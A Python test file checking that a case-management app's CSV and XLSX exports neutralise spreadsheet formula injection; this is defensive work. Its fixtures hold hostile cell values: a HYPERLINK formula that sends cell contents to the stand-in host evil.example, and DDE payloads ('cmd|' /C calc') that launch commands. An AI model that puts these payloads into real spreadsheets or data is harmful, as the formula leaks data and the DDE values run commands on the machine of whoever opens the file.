"""Exports are safe to open: text that a spreadsheet would evaluate is neutralised (CSV: OWASP's leading ',
XLSX: text cells, never formulas), numbers and times are not; Parquet keeps the raw values. Any reporter
controls `external_ref` and `note`, any officer a decree number."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import openpyxl
import pyarrow.parquet as pq
import pytest

from entrypoints.cli.main import main
from projections import export as exporter
from projections.export import safe_text
from tests.conftest import T0, new_case

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
NOTES = {"begin_review": "+1+cmd|' /C calc'!A0", "register": "@SUM(1+1)*cmd|' /C calc'!A0",
         "forward": "-2+3", "begin_examination": "#N/A", "recommend": "=1+1"}
HOSTILE = {HYPERLINK, "=800/1", *NOTES.values()}
BIMA = "bawaslu:kab-bima"


@pytest.fixture
def hostile(clocked_app, clock):
    """A case whose reporter-chosen external_ref and officers' notes and decree number start like formulas; one
    step recorded a little before the time it states (a negative lag: a real negative number)."""
    app = clocked_app
    case_id = new_case(app, external_ref=HYPERLINK, note=HYPERLINK)
    at = T0
    for trigger, actor, fields in [("begin_review", BIMA, {}), ("register", BIMA, {}), ("forward", BIMA, {}),
                                   ("begin_examination", "bkn", {}),
                                   ("recommend", "bkn", {"track": "discipline", "sanction": "written_reprimand"})]:
        at += timedelta(days=1)
        clock.at = at - timedelta(minutes=3) if trigger == "forward" else at + timedelta(hours=1)
        app.advance(case_id, trigger, actor, occurred_at=at, note=NOTES[trigger], **fields)
    at += timedelta(days=1)
    clock.at = at
    app.advance(case_id, "impose_sanction", "ppk:pemkab-bima", occurred_at=at, sanction="written_reprimand",
                decree_number="=800/1")
    return app


def test_safe_text_follows_owasp():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_text(start + "1+1") == "'" + start + "1+1"
    for harmless in ("800/45/2024", "a=b", " x", "", "'quoted"):
        assert safe_text(harmless) == harmless


def _xlsx(path):
    """Every cell of the first sheet as (value, data type), read without evaluating anything."""
    sheet = openpyxl.load_workbook(path).worksheets[0]
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("table", ["case_event", "case_summary", "backdating"])
def test_xlsx_has_no_formula_and_shows_the_text_as_stated(hostile, tmp_path, table):
    path = tmp_path / f"{table}.xlsx"
    exporter.export(hostile, table, "xlsx", path, **({"threshold_days": -1} if table == "backdating" else {}))
    cells = _xlsx(path)
    assert [c for row in cells for c in row if c[1] in ("f", "e")] == []  # no formula, no error value
    texts = {value for row in cells for value, kind in row if kind == "s"}
    wanted = {"case_event": HOSTILE, "case_summary": {HYPERLINK, "=800/1"}, "backdating": set()}[table]
    assert wanted <= texts, wanted - texts
    header = [value for value, _ in cells[0]]
    if table == "backdating":  # a real negative number stays a number
        lags = [row[header.index("lag_days")][0] for row in cells[1:]]
        assert any(isinstance(lag, float) and lag < 0 for lag in lags), lags
    else:  # times stay date cells
        times = [row[header.index("updated_at" if table == "case_summary" else "occurred_at")] for row in cells[1:]]
        assert all(kind == "d" for _, kind in times), times


@pytest.mark.parametrize("table", ["case_event", "case_summary", "backdating"])
def test_csv_neutralises_formula_starts_only(hostile, tmp_path, table):
    path = tmp_path / f"{table}.csv"
    exporter.export(hostile, table, "csv", path, **({"threshold_days": -1} if table == "backdating" else {}))
    rows = list(csv.DictReader(open(path, newline="", encoding="utf-8")))
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or
                (c.startswith("-") and not _number(c))]
    if table == "case_event":
        assert {safe_text(text) for text in HOSTILE} <= set(cells)
        assert "#N/A" in cells and all(row["occurred_at"][:4] == "2024" for row in rows)
    if table == "backdating":
        lags = [float(row["lag_days"]) for row in rows]
        assert any(lag < 0 for lag in lags)  # written as the number, not as '-0.002…


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_parquet_keeps_the_raw_values(hostile, tmp_path):
    exporter.export(hostile, "case_event", "parquet", tmp_path / "e.parquet")
    notes = set(pq.read_table(tmp_path / "e.parquet").column("note").to_pylist())
    assert set(NOTES.values()) | {HYPERLINK} <= notes


def test_cli_audit_csv_is_neutralised_too(hostile, capsys):
    code = main(["--db", str(hostile.store), "audit", "backdating", "--threshold=-1", "--csv"])
    out = capsys.readouterr().out
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows and all(not v.startswith(("=", "+", "@")) for row in rows for v in row.values())
    assert any(float(row["lag_days"]) < 0 for row in rows)


def test_an_actor_id_an_earlier_version_accepted_still_exports(app, tmp_path, monkeypatch):
    """Earlier versions took any actor id, control characters included; XML cannot hold those: the XLSX shows
    U+FFFD in their place instead of failing, CSV keeps them (quoted)."""
    from workflow.actors import Actor

    case_id = new_case(app)
    with monkeypatch.context() as patch:
        patch.setattr(Actor, "validate", lambda self: None)
        app.advance(case_id, "begin_review", Actor("bawaslu", "kab-bima", "andi\x1b[31m\x07"), occurred_at=T0)
    exporter.export(app, "case_event", "xlsx", tmp_path / "e.xlsx")
    assert ("andi\ufffd[31m\ufffd", "s") in [c for row in _xlsx(tmp_path / "e.xlsx") for c in row]
    exporter.export(app, "case_event", "csv", tmp_path / "e.csv")
    assert "andi\x1b[31m\x07" in (tmp_path / "e.csv").read_text(encoding="utf-8")
